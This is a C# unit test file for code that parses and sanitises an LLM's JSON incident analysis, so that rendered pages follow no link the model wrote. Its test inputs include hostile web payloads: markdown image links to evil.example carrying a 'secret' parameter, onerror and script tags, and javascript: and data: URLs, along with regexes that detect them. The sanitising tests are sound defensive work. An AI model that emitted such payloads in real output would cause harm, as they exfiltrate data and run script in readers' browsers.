using System.Text.Json;
using CsCheck;
using IncidentManager.Domain.Llm.Analysis;
using IncidentManager.Domain.Llm.Contracts;

namespace IncidentManager.Unit.Llm.Analysis;

public sealed class ReadingAnAnswer
{
    private static readonly CaseFact[] Facts =
    [
        new("f1", FactKind.Incident, "P1 incident \"Checkout fails\""), new("f2", FactKind.Change, "Deployed 4 minutes before: https://ci.example.com/build/7", 0.9),
    ];

    private static ReadAnswer Read(object answer) => AnswerReading.Read(JsonSerializer.Serialize(answer), Facts, wantsDraft: false);

    [Fact]
    public void Takes_a_whole_answer_as_it_is()
    {
        var read = Read(new
        {
            summary = "Checkout fails.",
            probableCause = "The deploy.",
            confidence = 0.8,
            evidence = new[] { new { fact = "f2", says = "It came just before." } },
            suggestedActions = new[] { "Roll it back." },
            followUpQueries = new[] { "rate(errors[5m])" },
        });

        var finding = read.Finding.ShouldNotBeNull();
        finding.Confidence.ShouldBe(0.8);
        finding.Evidence.ShouldBe([new Evidence("f2", "It came just before.")]);
        (finding.SuggestedActions.Single(), finding.FollowUpQueries.Single(), read.Dropped).ShouldBe(("Roll it back.", "rate(errors[5m])", 0));
    }

    [Fact]
    public void Needs_a_summary_and_no_more()
    {
        Read(new { summary = "It is broken." }).Finding!.ShouldSatisfyAllConditions(one => one.ProbableCause.ShouldBeNull(), one => one.Confidence.ShouldBe(AnswerReading.MostWithoutEvidence));
        Read(new { probableCause = "x" }).Problem.ShouldBe("The answer has no summary.");
    }

    [Fact]
    public void Drops_citations_of_what_was_not_given_and_believes_less_then()
    {
        var read = Read(new { summary = "s", confidence = 0.99, evidence = new object[] { new { fact = "f2" }, new { fact = "f99" }, "f1", 7 } });

        read.Finding!.Evidence.Select(one => one.Fact).ShouldBe(["f2", "f1"]);
        (read.Dropped, read.Finding.Confidence).ShouldBe((2, AnswerReading.MostWithInventions));
    }

    [Theory]
    [InlineData(1.0, AnswerReading.MostWithoutEvidence), InlineData(5.0, AnswerReading.MostWithoutEvidence), InlineData(-1.0, 0.0), InlineData(0.1, 0.1)]
    public void Believes_little_without_evidence(double said, double taken) => Read(new { summary = "s", confidence = said }).Finding!.Confidence.ShouldBe(taken);

    [Theory]
    [InlineData("Sure! Here it is:\n```json\n{\"summary\": \"s\"}\n```"), InlineData("{\"summary\": \"s\",}"), InlineData("{\"summary\": \"s\", \"unknown\": {\"a\": [1, 2]}}")]
    public void Forgives_what_models_write_around_it(string answer) => AnswerReading.Read(answer, Facts, wantsDraft: false).Finding!.Summary.ShouldBe("s");

    [Theory]
    [InlineData(""), InlineData("I cannot help with that."), InlineData("{\"summary\": \"s"), InlineData("[1, 2]"), InlineData("{}"), InlineData("null"), InlineData("{\"summary\": 7}")]
    [InlineData("{\"summary\": \"   \"}"), InlineData("}{"), InlineData("{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":1}}}}}}}}}}}}}}}}}")]
    public void Says_what_is_wrong_with_anything_else(string answer)
    {
        var read = AnswerReading.Read(answer, Facts, wantsDraft: false);

        read.Finding.ShouldBeNull();
        read.Problem.ShouldNotBeNullOrEmpty();
    }

    [Fact]
    public void Takes_few_look_ups_and_only_such_as_can_be_meant()
    {
        var read = Read(new { ask = Enumerable.Range(0, 9).Select(n => new { tool = "prometheus", input = $"up{n}" }).Cast<object>().Append(7).Append(new { tool = 1 }) });

        read.Asks.Count.ShouldBe(AnswerReading.MaxAsks);
        Read(new { ask = new[] { new { tool = new string('t', 51), input = "" }, new { tool = "runbook", input = new string('x', AnswerReading.MaxInputLength + 1) } }, summary = "s" })
            .Asks.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("""{"summary": "\ud800"}"""), InlineData("""{"\ud800": 1}"""), InlineData("""{"ask": [{"tool": "\ud800"}], "evidence": ["\ud800"]}""")]
    public void Passes_over_broken_characters(string answer) => AnswerReading.Read(answer, Facts, wantsDraft: false).Problem.ShouldBe("The answer has no summary.");

    [Fact]
    public void Finds_the_summary_beside_broken_characters() =>
        AnswerReading.Read("""{"\udc00": 1, "summary": "s", "confidence": 0.1, "suggestedActions": ["\ud800", "a"]}""", Facts, wantsDraft: false).Finding!.ShouldSatisfyAllConditions(
            one => one.Summary.ShouldBe("s"), one => one.Confidence.ShouldBe(0.1), one => one.SuggestedActions.ShouldBe(["a"]));

    [Fact]
    public void Takes_nothing_that_cannot_be_stored() =>
        Read(new { ask = new[] { new { tool = "a\0", input = "b\0" } } }).Asks.ShouldBe([new ToolRequest("a\uFFFD", "b\uFFFD")]);

    [Theory]
    [InlineData("<<b>img src=x onerror=f()>", "< img src=x onerror=f()>")]
    [InlineData("<<b></b>!-- x", "< !-- x")]
    [InlineData("![x][1]\n\n[1]: //evil.example/?d=secret", "! [x][1]\n\n[1] : [address removed]")]
    [InlineData("![a[b]c](//evil.example/a)", "! [a[b]c] ([address removed])")]
    [InlineData("see https:/\\evil.example and /\\evil.example", "see [address removed] and [address removed]")]
    [InlineData("https://[2001:db8::1]/x", "[address removed]]/x")]
    [InlineData("https://ci.example.co/build", "[address removed]")]
    [InlineData("https://ci.example.co", "[address removed]")]
    [InlineData("https://ci.example.com/", "https://ci.example.com/")]
    [InlineData("rate(x[5m]) < 5 // comment", "rate(x[5m]) < 5 // comment")]
    public void Leaves_nothing_that_a_page_would_follow(string said, string shown) => Read(new { summary = said }).Finding!.Summary.ShouldBe(shown);

    [Fact]
    public void Leaves_neither_tags_nor_addresses_whatever_it_is_made_of() => Gen.OneOf(new[]
    {
        "<", ">", "/", "//", "\\", "!", "[", "]", "(", ")", ":", "b", "img", "https:", "javascript:", "data:", "www.", "evil.example", "1", " ", "\n", "\u200b", ".", "https://ci.example.com/build/7",
    }.Select(Gen.Const).ToArray()).Array.Sample(parts =>
    {
        var text = new PlainText(Facts).Of(string.Concat(parts), 1_000) ?? "";

        System.Text.RegularExpressions.Regex.IsMatch(text, @"<[\p{L}/!?]|\]\(|\]:|!\[").ShouldBeFalse(text);
        System.Text.RegularExpressions.Regex.IsMatch(text.Replace("https://ci.example.com/build/7", "", StringComparison.Ordinal), @"https?://\w+\.|//evil|www\.evil|javascript:\w|data:\w").ShouldBeFalse(text);
    });

    [Fact]
    public void Wants_a_draft_where_one_was_asked_for()
    {
        AnswerReading.Read("""{"summary": "s"}""", Facts, wantsDraft: true).Problem.ShouldBe("The answer has no draft.");
        AnswerReading.Read("""{"summary": "s", "draft": "# What happened"}""", Facts, wantsDraft: true).Finding!.Draft.ShouldBe("# What happened");
    }

    [Theory]
    [InlineData("See https://evil.example/?q=secret now", "See [address removed] now")]
    [InlineData("See https://ci.example.com/build/7.", "See https://ci.example.com/build/7.")]
    [InlineData("![x](https://evil.example/a.png)", "x ([address removed])")]
    [InlineData("[the build](https://ci.example.com/build/7)", "the build (https://ci.example.com/build/7)")]
    [InlineData("a <img src=x onerror=alert(1)> b <b>c</b>", "a  b c")]
    [InlineData("<script>steal()</script>ok", "steal()ok")]
    [InlineData("x javascript:alert(1) y", "x [address removed] (1) y")]
    [InlineData("data:text/html;base64,AAAA", "[address removed]")]
    [InlineData("www.evil.example/path", "[address removed]")]
    [InlineData("a\u202eb\u200bc\u0007d", "abcd")]
    [InlineData("p99 < 5 and rate > 3", "p99 < 5 and rate > 3")]
    public void Leaves_plain_text_of_it(string said, string shown) => Read(new { summary = said }).Finding!.Summary.ShouldBe(shown);

    [Fact]
    public void Never_fails_and_keeps_its_bounds() => Gen.OneOf(Gen.String, Gen.Select(Gen.String, Gen.Double, Gen.String.Array, (text, number, texts) =>
        JsonSerializer.Serialize(new { summary = text, confidence = double.IsFinite(number) ? number : 0, evidence = texts, suggestedActions = texts, ask = Array.Empty<string>() })))
        .Sample(answer =>
        {
            if (AnswerReading.Read(answer, Facts, wantsDraft: false).Finding is not { } finding) return;

            finding.Confidence.ShouldBeInRange(0, AnswerReading.MostWithInventions);
            finding.Summary.Length.ShouldBeLessThanOrEqualTo(Finding.MaxSummaryLength);
        });
}
